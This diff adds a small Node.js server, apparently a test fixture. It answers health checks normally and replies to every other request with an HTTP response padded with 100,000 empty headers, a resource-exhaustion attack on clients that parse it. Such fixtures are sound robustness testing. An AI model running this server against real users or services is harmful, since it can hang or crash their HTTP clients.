@@ -1,0 +1,12 @@
+import net from 'node:net';
+
+const health = 'HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}';
+function attack(socket) {
+  const headers = Array.from({ length: 100_000 }, (_, n) => `a${n}:\r\n`).join('');
+  socket.end(`HTTP/1.1 200 OK\r\n${headers}content-length: 2\r\n\r\n{}`);
+}
+net
+  .createServer((socket) => {
+    socket.on('error', () => {}).once('data', (head) => (head.includes(' /health ') ? socket.end(health) : attack(socket, head)));
+  })
+  .listen(process.env.PORT);
